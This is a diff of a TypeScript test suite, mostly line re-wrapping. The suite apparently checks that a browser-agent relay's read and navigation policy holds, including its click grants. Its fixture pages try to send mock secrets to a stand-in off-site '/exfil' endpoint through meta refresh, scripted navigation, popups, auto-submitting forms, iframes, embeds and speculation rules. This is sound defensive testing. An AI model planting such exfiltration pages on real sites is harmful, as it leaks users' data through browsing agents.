@@ -92,32 +92,98 @@ beforeAll(async () => {
   // Speculation rules: the browser itself prefetches and prerenders, each outside the tab's own requests.
   site.route(
     "/speculation",
-    html("Speculation", `<p>Preloads.</p><script type="speculationrules">{"prerender":[{"source":"list","urls":["${away("/exfil?q=secret-prerender")}"]}],"prefetch":[{"source":"list","urls":["${away("/exfil?q=secret-prefetch")}"]}]}</script><link rel="prerender" href="${away("/exfil?q=secret-link-prerender")}">`),
+    html(
+      "Speculation",
+      `<p>Preloads.</p><script type="speculationrules">{"prerender":[{"source":"list","urls":["${away("/exfil?q=secret-prerender")}"]}],"prefetch":[{"source":"list","urls":["${away("/exfil?q=secret-prefetch")}"]}]}</script><link rel="prerender" href="${away("/exfil?q=secret-link-prerender")}">`,
+    ),
   );
   site.route("/meta", html("Meta", `<meta http-equiv="refresh" content="0;url=${away("/exfil?q=secret-meta")}"><p>Refreshing</p>`));
-  site.route("/script-nav", html("Script", `<p>Leaving soon.</p><script>setTimeout(() => { location.href = ${JSON.stringify(away("/exfil?q=secret-script"))}; }, 200)</script>`));
+  site.route(
+    "/script-nav",
+    html("Script", `<p>Leaving soon.</p><script>setTimeout(() => { location.href = ${JSON.stringify(away("/exfil?q=secret-script"))}; }, 200)</script>`),
+  );
   site.route("/script-nav-now", html("Script now", `<p>Leaving now.</p><script>location.replace(${JSON.stringify(away("/exfil?q=secret-now"))})</script>`));
   site.route("/popup", html("Popup", `<p>Opens a tab.</p><script>window.open(${JSON.stringify(away("/exfil?q=secret-popup"))})</script>`));
-  site.route("/popup-late", html("Popup later", `<p>Opens a tab later.</p><script>setTimeout(() => window.open(${JSON.stringify(away("/exfil?q=secret-popup-late"))}), 300)</script>`));
+  site.route(
+    "/popup-late",
+    html("Popup later", `<p>Opens a tab later.</p><script>setTimeout(() => window.open(${JSON.stringify(away("/exfil?q=secret-popup-late"))}), 300)</script>`),
+  );
   site.route("/popup-redirect", html("Popup via redirect", `<p>Opens an allowed URL that redirects away.</p><script>window.open("/r302")</script>`));
   site.route(
     "/form",
-    html("Form", `<form id="f" method="post" action="${away("/exfil")}"><input name="q" value="secret-form"></form><script>document.getElementById("f").submit()</script>`),
+    html(
+      "Form",
+      `<form id="f" method="post" action="${away("/exfil")}"><input name="q" value="secret-form"></form><script>document.getElementById("f").submit()</script>`,
+    ),
   );
-  site.route("/form-get", html("Form GET", `<form id="f" action="${away("/exfil")}"><input name="q" value="secret-form-get"></form><script>setTimeout(() => document.getElementById("f").requestSubmit(), 100)</script>`));
-  site.route("/frames", html("Frames", `<h1>Host page</h1><p>The host page's own words.</p><iframe src="${away("/exfil?q=secret-frame")}"></iframe><iframe src="/frame-inner"></iframe>`));
-  site.route("/frame-inner", html("Inner", `<p>Inner frame text.</p><iframe src="${away("/exfil?q=secret-nested")}"></iframe><iframe src="/frame-redirect"></iframe>`));
+  site.route(
+    "/form-get",
+    html(
+      "Form GET",
+      `<form id="f" action="${away("/exfil")}"><input name="q" value="secret-form-get"></form><script>setTimeout(() => document.getElementById("f").requestSubmit(), 100)</script>`,
+    ),
+  );
+  site.route(
+    "/frames",
+    html(
+      "Frames",
+      `<h1>Host page</h1><p>The host page's own words.</p><iframe src="${away("/exfil?q=secret-frame")}"></iframe><iframe src="/frame-inner"></iframe>`,
+    ),
+  );
+  site.route(
+    "/frame-inner",
+    html("Inner", `<p>Inner frame text.</p><iframe src="${away("/exfil?q=secret-nested")}"></iframe><iframe src="/frame-redirect"></iframe>`),
+  );
   site.route("/frame-redirect", (_req, res) => {
     res.writeHead(302, { Location: away("/exfil?q=secret-frame-redirect") });
     res.end();
   });
-  site.route("/object", html("Object", `<p>Embeds documents.</p><object data="${away("/exfil?q=secret-object")}" type="text/html"></object><embed src="${away("/exfil?q=secret-embed")}" type="text/html">`));
-  site.route("/frame-later", html("Frame later", `<p>Adds a frame.</p><script>setTimeout(() => { const f = document.createElement("iframe"); f.src = ${JSON.stringify(away("/exfil?q=secret-late-frame"))}; document.body.append(f); }, 200)</script>`));
-  site.route("/frame-srcdoc", html("Srcdoc", `<iframe srcdoc="<p>inside</p><a id=a href='${away("/exfil?q=secret-srcdoc")}'>go</a><script>location.href=document.getElementById('a').href</script>"></iframe>`));
-  site.route("/popup-noopener", html("Popup noopener", `<p>Opens a tab it cannot see.</p><script>window.open(${JSON.stringify(away("/exfil?q=secret-noopener"))}, "_blank", "noopener")</script>`));
-  site.route("/form-blank", html("Form to a new tab", `<form id="f" target="_blank" method="post" action="${away("/exfil")}"><input name="q" value="secret-form-blank"></form><script>document.getElementById("f").submit()</script>`));
-  site.route("/click-away", html("Click away", `<button onclick="location.href=${JSON.stringify(away("/exfil?q=secret-click")).replace(/"/g, "&quot;")}">Go</button>`));
-  site.route("/link", html("Link", `<a id="go" href="${away("/exfil?q=secret-link")}" target="_blank">Open</a><script>setTimeout(() => document.getElementById("go").click(), 100)</script>`));
+  site.route(
+    "/object",
+    html(
+      "Object",
+      `<p>Embeds documents.</p><object data="${away("/exfil?q=secret-object")}" type="text/html"></object><embed src="${away("/exfil?q=secret-embed")}" type="text/html">`,
+    ),
+  );
+  site.route(
+    "/frame-later",
+    html(
+      "Frame later",
+      `<p>Adds a frame.</p><script>setTimeout(() => { const f = document.createElement("iframe"); f.src = ${JSON.stringify(away("/exfil?q=secret-late-frame"))}; document.body.append(f); }, 200)</script>`,
+    ),
+  );
+  site.route(
+    "/frame-srcdoc",
+    html(
+      "Srcdoc",
+      `<iframe srcdoc="<p>inside</p><a id=a href='${away("/exfil?q=secret-srcdoc")}'>go</a><script>location.href=document.getElementById('a').href</script>"></iframe>`,
+    ),
+  );
+  site.route(
+    "/popup-noopener",
+    html(
+      "Popup noopener",
+      `<p>Opens a tab it cannot see.</p><script>window.open(${JSON.stringify(away("/exfil?q=secret-noopener"))}, "_blank", "noopener")</script>`,
+    ),
+  );
+  site.route(
+    "/form-blank",
+    html(
+      "Form to a new tab",
+      `<form id="f" target="_blank" method="post" action="${away("/exfil")}"><input name="q" value="secret-form-blank"></form><script>document.getElementById("f").submit()</script>`,
+    ),
+  );
+  site.route(
+    "/click-away",
+    html("Click away", `<button onclick="location.href=${JSON.stringify(away("/exfil?q=secret-click")).replace(/"/g, "&quot;")}">Go</button>`),
+  );
+  site.route(
+    "/link",
+    html(
+      "Link",
+      `<a id="go" href="${away("/exfil?q=secret-link")}" target="_blank">Open</a><script>setTimeout(() => document.getElementById("go").click(), 100)</script>`,
+    ),
+  );
 }, 60_000);
 
 afterAll(async () => {
@@ -132,7 +198,11 @@ describe.each(DRIVERS)("navigation boundary with the %s driver", (driver) => {
 
   beforeAll(async () => {
     // A click grant for "Go": an action the agent may take, after which the page tries to leave.
-    ({ broker, client, close: closeSession } = await startSession(driver, {
+    ({
+      broker,
+      client,
+      close: closeSession,
+    } = await startSession(driver, {
       yaml: `policy:\n  read:\n    allow:\n      "127.0.0.1": [".*"]\n  write:\n    click:\n      "127.0.0.1": { label: "^Go$" }\nread:\n  load_timeout_ms: 5000\n`,
     }));
   }, 60_000);
@@ -190,7 +260,9 @@ describe.each(DRIVERS)("navigation boundary with the %s driver", (driver) => {
       if (!opened.isError) {
         const id = Number(/tab (\d+)/.exec(opened.text)?.[1]);
         // The tab is left blank once its page's attempt was stopped.
-        await waitFor(`${path}: the tab to be reset`, async () => ((await call(client, "list_tabs")).text.includes(`tab ${id}: «about:blank»`) ? true : undefined));
+        await waitFor(`${path}: the tab to be reset`, async () =>
+          (await call(client, "list_tabs")).text.includes(`tab ${id}: «about:blank»`) ? true : undefined,
+        );
         refusal = await call(client, "read_page", { tab: id });
         await call(client, "close_tab", { tab: id });
       }
@@ -280,7 +352,13 @@ setInterval(async () => {
     broker = await startBroker({ yaml: allowYaml() });
     profileDir = mkdtempSync(join(tmpdir(), "tabrelay-profile-"));
     const extensionDir = prepareExtension(profileDir, `ws://127.0.0.1:${broker.port}/bridge`, PAIRING_TOKEN, "test chromium");
-    browser = launchChromium({ chromiumPath: findChromium(), profileDir, extensionDir, headless: true, extraArgs: ["--disable-popup-blocking", "--remote-debugging-port=0"] });
+    browser = launchChromium({
+      chromiumPath: findChromium(),
+      profileDir,
+      extensionDir,
+      headless: true,
+      extraArgs: ["--disable-popup-blocking", "--remote-debugging-port=0"],
+    });
     await browserConnected(broker);
     client = await connectClient(broker.url);
     // The user opens a tab of their own (here through DevTools, which the extension knows nothing about).
@@ -338,9 +416,18 @@ describe.each(DRIVERS)("the read policy is a boundary, with the %s driver", (dri
       res.writeHead(302, { Location: `${offsite.origin}/secret` });
       res.end();
     });
-    site.route("/js-away", `<html><head><title>Leaving</title></head><body><p>Going elsewhere soon.</p><script>setTimeout(() => { location.href = "${offsite.origin}/secret"; }, 300)</script></body></html>`);
-    site.route("/meta-away", `<html><head><title>Meta</title><meta http-equiv="refresh" content="0;url=${offsite.origin}/secret"></head><body>Refreshing</body></html>`);
-    site.route("/popup", `<html><head><title>Popup opener</title></head><body><p>Opens a tab.</p><script>window.open("${offsite.origin}/secret")</script></body></html>`);
+    site.route(
+      "/js-away",
+      `<html><head><title>Leaving</title></head><body><p>Going elsewhere soon.</p><script>setTimeout(() => { location.href = "${offsite.origin}/secret"; }, 300)</script></body></html>`,
+    );
+    site.route(
+      "/meta-away",
+      `<html><head><title>Meta</title><meta http-equiv="refresh" content="0;url=${offsite.origin}/secret"></head><body>Refreshing</body></html>`,
+    );
+    site.route(
+      "/popup",
+      `<html><head><title>Popup opener</title></head><body><p>Opens a tab.</p><script>window.open("${offsite.origin}/secret")</script></body></html>`,
+    );
     // Popups allowed over CDP too, as for the extension's browser (harness.ts): the agent page's popup must open.
     ({ client, close: closeSession } = await startSession(driver, { yaml: allowYaml("read:\n  load_timeout_ms: 4000\n") }, { allowPopups: true }));
   }, 60_000);
